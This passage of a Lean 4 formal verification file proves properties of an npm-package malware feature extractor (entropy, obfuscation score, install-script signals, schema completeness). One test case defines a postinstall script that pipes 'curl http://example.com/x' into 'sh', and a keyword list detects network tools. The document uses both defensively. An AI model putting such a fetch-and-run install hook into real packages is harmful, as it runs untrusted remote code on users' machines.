   ("is_rapid_update", .num 0), ("version_velocity", .num 0),
   ("maintenance_score", .num 0), ("time_between_updates", .num 0),
   ("update_type", .num 0),
   ("fs_read_count", .num 0), ("fs_write_count", .num 0), ("fs_delete_count", .num 0),
   ("http_request_count", .num 0), ("fetch_count", .num 0), ("socket_count", .num 0),
   ("exec_count", .num 0), ("spawn_count", .num 0), ("fork_count", .num 0),
   ("password_access", .num 0), ("cookie_access", .num 0),
   ("env_variable_access", .num 0),
   ("max_entropy", .num 0), ("avg_entropy", .num 0), ("entropy_variance", .num 0),
   ("minified_files", .num 0), ("minified_ratio", .num 0),
   ("obfuscation_score", .num 0),
   ("base64_pattern_count", .num 0), ("eval_usage_count", .num 0),
   ("base64_density", .num 0), ("eval_density", .num 0),
   ("has_install_command", .num 0), ("base64_in_install_script", .num 0),
   ("domain_in_install_script", .num 0), ("network_in_install_script", .num 0),
   ("process_env_in_install_script", .num 0), ("file_ops_in_install_script", .num 0),
   ("shell_exec_in_install_script", .num 0),
   ("has_readme", .num 0)]

/-- Model of `extract_basic_features`: the whole body is a `try` block; when any of
the filesystem operations inside it raises, the `except` branch returns
`_get_default_features()`.  The occurrence of such an exception is an
environment event, passed in as `raises`. -/
noncomputable def extract_basic_features (vparse : String → Option SemVer)
    (pkg : Package) (raises : Bool) : FeatDict :=
  if raises then get_default_features else extract_basic_features_ok vparse pkg

/-- The install-feature dict in insertion order (dict literal at
lines 264-272). -/
def installPairs (f : InstallFeatures) : FeatDict :=
  [("has_install_command", .num f.has_install_command),
   ("base64_in_install_script", .num f.base64_in_install_script),
   ("domain_in_install_script", .num f.domain_in_install_script),
   ("network_in_install_script", .num f.network_in_install_script),
   ("process_env_in_install_script", .num f.process_env_in_install_script),
   ("file_ops_in_install_script", .num f.file_ops_in_install_script),
   ("shell_exec_in_install_script", .num f.shell_exec_in_install_script)]

/-- Model of `extract_all_features` (lines 534-546): run the three analyzers, merge
their dicts with `{**basic, **advanced, **install}`, then attach
`package_type`, `collection_date = datetime.now().isoformat()` and
`analysis_timestamp = datetime.now().strftime(...)`.  The two wall-clock
reads are passed in as the strings they format to. -/
noncomputable def extract_all_features (vparse : String → Option SemVer)
    (piiOf : String → Nat × Nat) (pkg : Package) (raises : Bool)
    (package_type collection_now analysis_now : String) : FeatDict :=
  let basic_features := extract_basic_features vparse pkg raises
  let advanced_features := extract_advanced_features piiOf pkg.files
  let install_script_features :=
    installPairs (extract_install_script_features
      (pkg.descriptor.map (fun d => d.scripts)))
  let all_features := dictMerge (dictMerge basic_features advanced_features)
    install_script_features
  dictSet "analysis_timestamp" (.str analysis_now)
    (dictSet "collection_date" (.str collection_now)
      (dictSet "package_type" (.str package_type) all_features))

/-- The canonical schema: the 52 declared feature keys plus the three
provenance fields. -/
def canonical_schema_keys : List String :=
  dkeys get_default_features ++
    ["package_type", "collection_date", "analysis_timestamp"]

/-- Two records agree on every field outside `ex` and declare the same keys
in the same order. -/
def recordsAgreeExcept (r1 r2 : FeatDict) (ex : List String) : Prop :=
  dkeys r1 = dkeys r2 ∧
    ∀ k : String, k ∉ ex → List.lookup k r1 = List.lookup k r2

/-! ## Dict lemmas -/

theorem lookup_dictSet (k a : String) (v : Feat) (d : FeatDict) :
    List.lookup k (dictSet a v d) = if k = a then some v else List.lookup k d := by
  induction d with
  | nil =>
    by_cases h : k = a
    · simp [dictSet, List.lookup, h]
    · simp [dictSet, List.lookup, h, beq_eq_false_iff_ne.mpr h]
  | cons p t ih =>
    obtain ⟨b, w⟩ := p
    by_cases hab : a = b
    · subst hab
      by_cases hk : k = a
      · simp [dictSet, List.lookup, hk]
      · simp [dictSet, List.lookup, hk, beq_eq_false_iff_ne.mpr hk]
    · by_cases hk : k = b
      · subst hk
        have hka : k ≠ a := fun h => hab h.symm
        simp [dictSet, List.lookup, hab, hka]
      · simp [dictSet, List.lookup, hab, hk,
          beq_eq_false_iff_ne.mpr hk, ih]

theorem dkeys_dictSet (a : String) (v : Feat) (d : FeatDict) :
    dkeys (dictSet a v d) =
      if a ∈ dkeys d then dkeys d else dkeys d ++ [a] := by
  induction d with
  | nil => simp [dictSet, dkeys]
  | cons p t ih =>
    obtain ⟨b, w⟩ := p
    by_cases hab : a = b
    · subst hab
      simp [dictSet, dkeys]
    · by_cases hmem : a ∈ dkeys t
      · simp only [dkeys] at ih hmem
        simp [dictSet, dkeys, hab, hmem, List.mem_cons, ih]
      · simp only [dkeys] at ih hmem
        simp [dictSet, dkeys, hab, hmem, List.mem_cons, ih]

/-! ## Concrete sample objects used by witnesses and counterexamples -/

/-- An empty package directory: no files, no `package.json`. -/
def pkg0 : Package :=
  { files := [], descriptor := none, dateDirExists := true, siblings := 0 }

/-- A version-parser oracle behaving like `packaging.version.Version` on the
only string the empty package feeds it. -/
def vparse0 : String → Option SemVer :=
  fun s => if s = "0.0.0" then some ⟨0, 0, 0, false⟩ else none

/-- A tree-sitter PII oracle; it is never consulted for a package with no
script files. -/
def pii0 : String → Nat × Nat := fun _ => (0, 0)

/-! ## Claim theorems -/

/-- C2: `calculate_entropy(data)` equals `-Σ (c/n) log2(c/n)` over the
symbol counts `c` of `data` with `n` the total length; it returns `0` for
empty content, and returns `0` for every non-empty constant string. -/
theorem claim_c2_calculate_entropy :
    (∀ data : List Char, calculate_entropy data =
      -∑ c in data.toFinset,
        ((data.count c : ℝ) / (data.length : ℝ)) *
          Real.logb 2 ((data.count c : ℝ) / (data.length : ℝ))) ∧
    calculate_entropy [] = 0 ∧
    (∀ (n : ℕ) (c : Char), calculate_entropy (List.replicate (n + 1) c) = 0) :=
  ⟨calculate_entropy_formula, calculate_entropy_nil, calculate_entropy_constant⟩

/-- C3: the assembled `obfuscation_score` equals
`min(10 × (0.4·minified_ratio + 0.3·base64_density + 0.3·eval_density), 1.0)`;
for non-negative inputs it lies in `[0, 1]` and is monotonically
non-decreasing in the base64 density and in the eval density. -/
theorem claim_c3_obfuscation_score (m b e : ℝ)
    (hm : 0 ≤ m) (hb : 0 ≤ b) (he : 0 ≤ e) :
    obfuscation_score m b e = min (10 * (0.4 * m + 0.3 * b + 0.3 * e)) 1 ∧
    0 ≤ obfuscation_score m b e ∧
    obfuscation_score m b e ≤ 1 ∧
    (∀ b', b ≤ b' → obfuscation_score m b e ≤ obfuscation_score m b' e) ∧
    (∀ e', e ≤ e' → obfuscation_score m b e ≤ obfuscation_score m b e') := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · unfold obfuscation_score
    norm_num
    congr 1
    ring
  · unfold obfuscation_score
    apply le_min _ (by norm_num)
    nlinarith
  · unfold obfuscation_score
    calc min ((m * 0.4 + b * 0.3 + e * 0.3) * 10) 1.0 ≤ 1.0 := min_le_right _ _
    _ ≤ 1 := by norm_num
  · intro b' hb'
    unfold obfuscation_score
    apply min_le_min _ le_rfl
    nlinarith
  · intro e' he'
    unfold obfuscation_score
    apply min_le_min _ le_rfl
    nlinarith

theorem claim_c3_witness :
    (0 : ℝ) ≤ 0 ∧
    (obfuscation_score 0 0 0 = min (10 * (0.4 * 0 + 0.3 * 0 + 0.3 * 0)) 1 ∧
     0 ≤ obfuscation_score 0 0 0 ∧
     obfuscation_score 0 0 0 ≤ 1 ∧
     (∀ b', (0 : ℝ) ≤ b' → obfuscation_score 0 0 0 ≤ obfuscation_score 0 b' 0) ∧
     (∀ e', (0 : ℝ) ≤ e' → obfuscation_score 0 0 0 ≤ obfuscation_score 0 0 e')) :=
  ⟨le_refl 0, claim_c3_obfuscation_score 0 0 0 le_rfl le_rfl le_rfl⟩

/-- C5 counterexample: with a missing (or unparsable) descriptor, the basic
extractor's version field defaults to `'1.0.0'`, not `'0.0.0'` as claimed. -/
theorem claim_c5_counterexample :
    (rootBasicMetaFeatures none).package_version = "1.0.0" ∧
    (rootBasicMetaFeatures none).package_version ≠ "0.0.0" := by
  constructor
  · rfl
  · decide

/-- C5 amended: with a missing or unparsable descriptor, extraction recovers
locally with defaults — the package name defaults to `'unknown'` and the
version field defaults to `'1.0.0'` (the version-history analyzer's internal
version string separately defaults to `'0.0.0'`). -/
theorem claim_c5_amended :
    (rootBasicMetaFeatures none).package_name = "unknown" ∧
    (rootBasicMetaFeatures none).package_version = "1.0.0" ∧
    descriptorVersionString none = "0.0.0" ∧
    descriptorVersionString (some none) = "0.0.0" :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- C6: with `k` sibling directories under the sample's date directory,
`has_other_versions_today = 1` iff `k ≥ 1`, `is_rapid_update = 1` iff
`k ≥ 2`, and `version_velocity = min(k / 10.0, 1.0)`, which is `0` at
`k = 0` and never exceeds `1`. -/
theorem claim_c6_version_siblings (vparse : String → Option SemVer)
    (version_str : String) (k : Nat) :
    ((extract_version_analysis_features vparse version_str true k).has_other_versions_today
        = 1 ↔ 1 ≤ k) ∧
    ((extract_version_analysis_features vparse version_str true k).is_rapid_update
        = 1 ↔ 2 ≤ k) ∧
    (extract_version_analysis_features vparse version_str true k).version_velocity
        = min ((k : ℝ) / 10) 1 ∧
    (extract_version_analysis_features vparse version_str true 0).version_velocity
        = 0 ∧
    (extract_version_analysis_features vparse version_str true k).version_velocity
        ≤ 1 := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · simp only [extract_version_analysis_features, if_true]
    by_cases h : 0 < k <;> simp [h] <;> omega
  · simp only [extract_version_analysis_features, if_true]
    by_cases h : 2 ≤ k <;> simp [h]
  · simp only [extract_version_analysis_features, if_true]
    norm_num
  · simp only [extract_version_analysis_features, if_true]
    norm_num
  · simp only [extract_version_analysis_features, if_true]
    calc min ((k : ℝ) / 10.0) 1.0 ≤ 1.0 := min_le_right _ _
    _ ≤ 1 := by norm_num

/-- C8: for one call-expression node with invoked-target text `func_name`,
the visitor's update increments exactly the first matching category of the
fixed priority order (file access, environment access, process execution,
network access, cryptographic usage, dynamic code generation, data
encoding), or nothing; in particular at most one counter grows. -/
theorem claim_c8_call_classification (f : SCFeatures) (func_name : String) :
    traverseCall f func_name =
      (match capOrder.find? (fun c => capMatches c func_name) with
       | some c => capBump c f
       | none => f) ∧
    totalSC (traverseCall f func_name) ≤ totalSC f + 1 := by
  constructor
  · unfold traverseCall
    split_ifs with h1 h2 h3 h4 h5 h6 h7 <;>
      simp_all [capOrder, List.find?]
  · unfold traverseCall
    split_ifs <;> simp [capBump, totalSC] <;> omega

/-- C9: when the semantic-version parser rejects the descriptor's version
string, `extract_version_analysis_features` keeps the first-version
defaults: `is_first_version = 1` and `update_type = 0`. -/
theorem claim_c9_invalid_version_defaults (vparse : String → Option SemVer)
    (version_str : String) (dateDirExists : Bool) (siblings : Nat)
    (h : vparse version_str = none) :
    (extract_version_analysis_features vparse version_str dateDirExists
        siblings).is_first_version = 1 ∧
    (extract_version_analysis_features vparse version_str dateDirExists
        siblings).update_type = 0 := by
  simp only [extract_version_analysis_features, h]
  cases dateDirExists <;> simp [versionDefaults]

theorem claim_c9_witness :
    (fun _ : String => (none : Option SemVer)) "not-a-version" = none ∧
    ((extract_version_analysis_features (fun _ => none) "not-a-version" true 3).is_first_version = 1 ∧
     (extract_version_analysis_features (fun _ => none) "not-a-version" true 3).update_type = 0) :=
  ⟨rfl, claim_c9_invalid_version_defaults (fun _ => none) "not-a-version" true 3 rfl⟩

/-- The lifecycle command of claim C4. -/
def curlCmd : String := "curl http://example.com/x | sh"

/-- C4: a descriptor declaring `scripts.postinstall = "curl
http://example.com/x | sh"` yields `has_install_command = 1` and a strictly
positive `network_in_install_script` count. -/
theorem claim_c4_install_curl (scripts : List (String × String))
    (h : ("postinstall", curlCmd) ∈ scripts) :
    (extract_install_script_features (some scripts)).has_install_command = 1 ∧
    0 < (extract_install_script_features (some scripts)).network_in_install_script := by
  have hname : isInstallScriptName "postinstall" = true := by decide
  have hfil : ("postinstall", curlCmd) ∈
      scripts.filter (fun s => isInstallScriptName s.1) :=
    List.mem_filter.mpr ⟨h, hname⟩
  have hmem : curlCmd ∈
      (scripts.filter (fun s => isInstallScriptName s.1)).map (fun s => s.2) :=
    List.mem_map_of_mem _ hfil
  constructor
  · simp only [extract_install_script_features]
    rw [if_neg]
    simp only [List.isEmpty_iff]
    exact List.ne_nil_of_mem hmem
  · simp only [extract_install_script_features]
    have hv : countMatches (litAlts ["curl", "wget", "fetch", "http"])
        (lowerStr curlCmd).toList = 2 := by decide
    have hvm : countMatches (litAlts ["curl", "wget", "fetch", "http"])
        (lowerStr curlCmd).toList ∈
        ((scripts.filter (fun s => isInstallScriptName s.1)).map (fun s => s.2)).map
          (fun c => countMatches (litAlts ["curl", "wget", "fetch", "http"])
            (lowerStr c).toList) :=
      List.mem_map_of_mem _ hmem
    have hle := List.single_le_sum (l := ((scripts.filter
        (fun s => isInstallScriptName s.1)).map (fun s => s.2)).map
          (fun c => countMatches (litAlts ["curl", "wget", "fetch", "http"])
            (lowerStr c).toList))
      (fun x _ => Nat.zero_le x) _ hvm
    omega

theorem claim_c4_witness :
    ("postinstall", curlCmd) ∈ [("postinstall", curlCmd)] ∧
    ((extract_install_script_features (some [("postinstall", curlCmd)])).has_install_command = 1 ∧
     0 < (extract_install_script_features (some [("postinstall", curlCmd)])).network_in_install_script) :=
  ⟨List.mem_singleton.mpr rfl,
   claim_c4_install_curl [("postinstall", curlCmd)] (List.mem_singleton.mpr rfl)⟩

/-- C10: a file whose decoded content is empty or no longer than 100
characters leaves every accumulator of `extract_advanced_features`
unchanged, and dropping such a file from the walked file list does not
change the resulting feature record. -/
theorem claim_c10_short_file_no_contribution (piiOf : String → Nat × Nat)
    (acc : AdvAcc) (f : PFile) (l1 l2 : List PFile)
    (h : f.content = "" ∨ f.content.length ≤ 100) :
    advStep piiOf acc f = acc ∧
    extract_advanced_features piiOf (l1 ++ f :: l2) =
      extract_advanced_features piiOf (l1 ++ l2) := by
  have hstep : ∀ a : AdvAcc, advStep piiOf a f = a := by
    intro a
    rw [advStep, if_neg]
    rintro ⟨h1, h2⟩
    rcases h with h | h
    · exact h1 h
    · omega
  refine ⟨hstep acc, ?_⟩
  have hfold : (l1 ++ f :: l2).foldl (advStep piiOf) advAccInit =
      (l1 ++ l2).foldl (advStep piiOf) advAccInit := by
    rw [List.foldl_append, List.foldl_append, List.foldl_cons,
      hstep (l1.foldl (advStep piiOf) advAccInit)]
  simp only [extract_advanced_features]
  rw [hfold]

theorem claim_c10_witness :
    ((⟨"a.js", "a.js", "", 0⟩ : PFile).content = "" ∨
      (⟨"a.js", "a.js", "", 0⟩ : PFile).content.length ≤ 100) ∧
    (advStep pii0 advAccInit ⟨"a.js", "a.js", "", 0⟩ = advAccInit ∧
     extract_advanced_features pii0 ([] ++ ⟨"a.js", "a.js", "", 0⟩ :: []) =
       extract_advanced_features pii0 ([] ++ [])) :=
  ⟨Or.inl rfl,
   claim_c10_short_file_no_contribution pii0 advAccInit ⟨"a.js", "a.js", "", 0⟩
     [] [] (Or.inl rfl)⟩

/-- C7 counterexample: two runs of `extract_all_features` on the same
unchanged package at different wall-clock instants also differ in
`collection_date` (it is `datetime.now().isoformat()` at analysis time,
line 543), so the records are not identical in every field except the
analysis-timestamp field. -/
theorem claim_c7_counterexample :
    ¬ recordsAgreeExcept
      (extract_all_features vparse0 pii0 pkg0 false "benign"
        "2024-01-01T00:00:00" "2024-01-01 00:00:00")
      (extract_all_features vparse0 pii0 pkg0 false "benign"
        "2024-01-01T00:00:05" "2024-01-01 00:00:05")
      ["analysis_timestamp"] := by
  intro hagree
  have h := hagree.2 "collection_date" (by decide)
  simp only [extract_all_features] at h
  rw [lookup_dictSet, if_neg (by decide), lookup_dictSet, if_pos rfl,
    lookup_dictSet, if_neg (by decide), lookup_dictSet, if_pos rfl] at h
  have heq : ("2024-01-01T00:00:00" : String) = "2024-01-01T00:00:05" := by
    injection h with h1
    injection h1
  exact absurd heq (by decide)

/-- C7 amended: two runs of `extract_all_features` on the same unchanged
package directory yield records that are identical in every field except
the `analysis_timestamp` field and the `collection_date` field (both read
the wall clock at analysis time), and that declare the same keys. -/
theorem claim_c7_amended (vparse : String → Option SemVer)
    (piiOf : String → Nat × Nat) (pkg : Package) (raises : Bool)
    (ptype c1 a1 c2 a2 : String) :
    recordsAgreeExcept
      (extract_all_features vparse piiOf pkg raises ptype c1 a1)
      (extract_all_features vparse piiOf pkg raises ptype c2 a2)
      ["collection_date", "analysis_timestamp"] := by
  constructor
  · simp only [extract_all_features, dkeys_dictSet]
  · intro k hk
    simp only [List.mem_cons, List.mem_singleton, not_or] at hk
    obtain ⟨hkc, hka⟩ := hk
    simp only [extract_all_features, lookup_dictSet, hka, hkc, if_false]

/-- C1: the record `extract_all_features` emits for an ordinary package
whose basic analysis succeeds is *not* the canonical 55-key schema: the
declared default key `dir_count` is never emitted on the success path, and
for a package with no script file over 100 characters the 14 security
pattern keys are missing as well (the emitted record has 40 keys, the
canonical schema 55). -/
theorem claim_c1_schema_incomplete :
    "dir_count" ∈ canonical_schema_keys ∧
    "dir_count" ∉ dkeys (extract_all_features vparse0 pii0 pkg0 false "benign"
      "2024-01-01T00:00:00" "2024-01-01 00:00:00") ∧
    "fs_read_count" ∈ canonical_schema_keys ∧
    "fs_read_count" ∉ dkeys (extract_all_features vparse0 pii0 pkg0 false "benign"
      "2024-01-01T00:00:00" "2024-01-01 00:00:00") ∧
    canonical_schema_keys.length = 55 ∧
    (dkeys (extract_all_features vparse0 pii0 pkg0 false "benign"
      "2024-01-01T00:00:00" "2024-01-01 00:00:00")).length = 40 := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, by decide⟩

end NpmExtractor
